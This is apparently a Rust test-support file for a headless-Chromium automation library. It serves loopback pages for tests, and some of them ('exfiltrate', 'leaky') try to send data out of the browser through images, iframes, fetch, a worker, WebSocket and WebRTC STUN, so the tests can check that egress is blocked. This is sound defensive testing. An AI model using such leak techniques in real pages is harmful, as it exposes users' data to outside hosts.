//! A local site on loopback for the browser to visit, and a launched Chromium.
#![allow(dead_code)]

use axum::Router;
use axum::extract::Query;
use axum::http::{HeaderMap, StatusCode, header};
use axum::response::{Html, IntoResponse, Redirect, Response};
use axum::routing::get;
use molt_browser::{Browser, LaunchOptions};
use std::collections::HashMap;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};

/// The article whose Markdown the tests know.
pub const ARTICLE: &str = "<!doctype html><html><head><title>Molt test article</title>\
<style>body { font-family: sans-serif }</style></head><body>\
<nav><a href=\"/\">Home</a></nav>\
<h1>Crabs</h1><p>Crabs walk <em>sideways</em>.</p>\
<h2>Kinds</h2><ul><li>Hermit</li><li>Coconut</li></ul>\
<p>Read <a href=\"/links\">more</a>.</p>\
<script>document.body.insertAdjacentHTML('beforeend', '<p>Added by script.</p>')</script>\
</body></html>";

/// The Markdown of [`ARTICLE`] served at `site`, once its script ran.
pub fn article_markdown(site: SocketAddr) -> String {
    format!(
        "# Molt test article\n\n# Crabs\n\nCrabs walk *sideways*.\n\n## Kinds\n\n\
         *   Hermit\n*   Coconut\n\nRead [more](http://{site}/links).\n\nAdded by script."
    )
}

const LINKS: &str = "<!doctype html><html><head><title>Links</title></head><body>\
<a href=\"/article\">The article</a> <a href=\"https://example.com/x?y=1\"> Example </a>\
<p class=\"price\" data-currency=\"EUR\">12.50</p><p class=\"price\" data-currency=\"USD\">3</p>\
<div id=\"box\" style=\"width:200px;height:100px;margin-top:1500px;background:red\">Box</div>\
</body></html>";

const TALL: &str = "<!doctype html><html><head><title>Tall</title><style>body{margin:0}</style></head>\
<body><div style=\"width:640px;height:3000px;background:linear-gradient(red,blue)\"></div></body></html>";

/// A page whose image never arrives, so `load` never fires.
const HANGING: &str = "<!doctype html><html><head><title>Hanging</title></head><body>\
<p>Waiting</p><img src=\"/never\"></body></html>";

/// A page that tries to send data to `to` with an image request.
async fn exfiltrate(Query(query): Query<HashMap<String, String>>) -> Html<String> {
    Html(format!(
        "<!doctype html><title>Innocent</title><p>Hello</p><img src=\"{0}\">\
         <iframe src=\"{0}&frame=1\"></iframe>",
        query["to"]
    ))
}

/// A page that tries every way out of the browser a page has besides its own
/// subresources: a cross-site iframe (served from `frame`, an origin) whose
/// image and fetch go to `to`, a dedicated worker's fetch, a WebSocket, and
/// WebRTC's STUN packets to UDP port `stun` on `to`'s host.
/// `window.settled` resolves once every attempt has succeeded or failed.
async fn leaky(Query(query): Query<HashMap<String, String>>) -> Html<String> {
    let to = serde_json::to_string(&query["to"]).unwrap();
    let frame = serde_json::to_string(&query["frame"]).unwrap();
    Html(format!(
        "<!doctype html><title>Leaky</title><p>Hello</p><script>\
         const to = {to}, frame = {frame};\
         const q = encodeURIComponent(to);\
         window.settled = Promise.all([\
           new Promise(done => addEventListener('message', e => e.data === 'frame' && done('frame'))),\
           new Promise(done => {{ const w = new Worker('/worker.js?to=' + q);\
             w.onmessage = () => done('worker'); w.onerror = () => done('worker failed'); }}),\
           new Promise(done => {{ const s = new WebSocket(to.replace(/^http/, 'ws') + '/socket');\
             s.onopen = s.onerror = () => done('socket'); }}),\
         new Promise(done => {{ const c = new RTCPeerConnection({{ iceServers: [{{ urls: 'stun:' + new URL(to).hostname + ':' + new URLSearchParams(location.search).get('stun') }}] }});\
             c.createDataChannel('x'); c.onicegatheringstatechange = () => c.iceGatheringState === 'complete' && done('rtc');\
             c.createOffer().then(o => c.setLocalDescription(o)); setTimeout(() => done('rtc timeout'), 3000); }}),\
         ]);\
         const f = document.createElement('iframe');\
         f.src = frame + '/leaky-frame?to=' + q;\
         document.body.append(f);\
         </script>"
    ))
}

/// The iframe of [`leaky`]: an image and a fetch to `to`, then a message to
/// its parent.
async fn leaky_frame(Query(query): Query<HashMap<String, String>>) -> Html<String> {
    let to = serde_json::to_string(&query["to"]).unwrap();
    Html(format!(
        "<!doctype html><title>Frame</title><script>\
         const to = {to};\
         const image = new Promise(done => {{ const i = new Image(); i.onload = i.onerror = done;\
           i.src = to + '/from-frame-image'; }});\
         const fetched = fetch(to + '/from-frame-fetch', {{ mode: 'no-cors' }}).catch(() => null);\
         Promise.all([image, fetched]).then(() => parent.postMessage('frame', '*'));\
         </script>"
    ))
}

/// The worker of [`leaky`]: a fetch to `to`, then a message.
async fn worker_script(Query(query): Query<HashMap<String, String>>) -> impl IntoResponse {
    let to = serde_json::to_string(&query["to"]).unwrap();
    (
        [(header::CONTENT_TYPE, "text/javascript")],
        format!(
            "fetch({to} + '/from-worker', {{ mode: 'no-cors' }})\
             .catch(() => null).then(() => postMessage('done'));"
        ),
    )
}

/// Serves the test pages on 127.0.0.1 (a free port) until the runtime ends.
pub async fn serve_site() -> SocketAddr {
    serve_site_recording(Arc::default()).await
}

/// [`serve_site`], recording each request's path and query in `hits`.
pub async fn serve_site_recording(hits: Arc<Mutex<Vec<String>>>) -> SocketAddr {
    serve_site_on([127, 0, 0, 1].into(), hits).await
}

/// [`serve_site_recording`] on another address (any of 127.0.0.0/8 works on
/// Linux without set-up).
pub async fn serve_site_on(ip: std::net::IpAddr, hits: Arc<Mutex<Vec<String>>>) -> SocketAddr {
    let app = Router::new()
        .route("/article", get(|| async { Html(ARTICLE) }))
        .route("/links", get(|| async { Html(LINKS) }))
        .route("/tall", get(|| async { Html(TALL) }))
        .route("/hang", get(|| async { Html(HANGING) }))
        .route("/never", get(never))
        .route("/redirect", get(redirect))
        .route("/headers", get(echo_headers))
        .route("/text", get(|| async { "plain text body" }))
        .route(
            "/download",
            get(|query: Query<HashMap<String, String>>| async move {
                let name = query.get("name").map_or("x.bin", String::as_str);
                let disposition = format!("attachment; filename=\"{name}\"");
                ([(header::CONTENT_DISPOSITION, disposition)], "binary")
            }),
        )
        .route("/exfiltrate", get(exfiltrate))
        .route("/leaky", get(leaky))
        .route("/leaky-frame", get(leaky_frame))
        .route("/worker.js", get(worker_script))
        .layer(axum::middleware::from_fn(
            move |request: axum::extract::Request, next: axum::middleware::Next| {
                let hits = hits.clone();
                async move {
                    hits.lock().unwrap().push(request.uri().to_string());
                    next.run(request).await
                }
            },
        ));
    let listener = tokio::net::TcpListener::bind((ip, 0)).await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    addr
}

async fn never() -> Response {
    futures::future::pending::<()>().await;
    StatusCode::OK.into_response()
}

async fn redirect(Query(query): Query<HashMap<String, String>>) -> Redirect {
    Redirect::temporary(&query["to"])
}

/// The request's headers, as a JSON object in the body of a page.
async fn echo_headers(headers: HeaderMap) -> impl IntoResponse {
    let map: HashMap<&str, &str> = headers
        .iter()
        .map(|(name, value)| (name.as_str(), value.to_str().unwrap_or("")))
        .collect();
    (
        [(header::CONTENT_TYPE, "text/html")],
        format!(
            "<!doctype html><pre id=\"headers\">{}</pre>",
            serde_json::to_string(&map).unwrap()
        ),
    )
}

/// A headless Chromium from the test script (CHROMIUM_PATH or PATH).
pub async fn launch() -> Browser {
    Browser::launch(LaunchOptions::default())
        .await
        .expect("Chromium starts (./scripts/test installs it)")
}

/// Processes whose command line mentions `needle`.
pub fn processes_mentioning(needle: &str) -> Vec<u32> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>() else {
            continue;
        };
        let Ok(cmdline) = std::fs::read(entry.path().join("cmdline")) else {
            continue;
        };
        if String::from_utf8_lossy(&cmdline).contains(needle) {
            found.push(pid);
        }
    }
    found
}

/// Processes in the process group `pgid` (from `/proc/<pid>/stat`).
pub fn processes_in_group(pgid: u32) -> Vec<u32> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>() else {
            continue;
        };
        let Ok(stat) = std::fs::read_to_string(entry.path().join("stat")) else {
            continue;
        };
        // Fields after the parenthesised name: state ppid pgrp ...
        let Some(rest) = stat.rsplit_once(')').map(|(_, rest)| rest) else {
            continue;
        };
        let fields: Vec<&str> = rest.split_whitespace().collect();
        if fields.first() != Some(&"Z") && fields.get(2) == Some(&pgid.to_string().as_str()) {
            found.push(pid);
        }
    }
    found
}
